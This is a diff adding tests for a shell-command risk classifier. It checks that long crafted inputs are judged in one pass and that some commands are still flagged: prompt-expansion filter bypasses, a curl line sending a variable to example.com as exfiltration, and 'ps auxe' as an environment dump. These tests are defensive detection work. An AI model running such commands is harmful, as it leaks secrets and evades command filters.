@@ -89,3 +89,20 @@ test("a command that several groups stand against names them all, in their order
     "process_control",
   ]);
 });
+
+test.each([
+  ["a variable beside ever new beginnings of one", "echo '", "${", "'$x"],
+  ["an address with ever new beginnings of a query", "curl $x'", "?", "'"],
+  ["letters of options", "ps '", "e", "1'"],
+])("%s is judged in one pass", (_, before, again, after) => {
+  expect(judgeLine(before + again.repeat((MAX_LENGTH - 50) / again.length) + after)).toEqual([]);
+});
+
+test.each([
+  [`echo \${x@P}`, "filter_bypass"],
+  [`echo '\${'$x'@P}'`, "filter_bypass"],
+  ["curl https://example.com/?k=$x", "data_exfiltration"],
+  ["ps auxe", "env_dump"],
+])("%j is still seen", (command, group) => {
+  expect(judgeLine(command)).toMatchObject([{ group }]);
+});
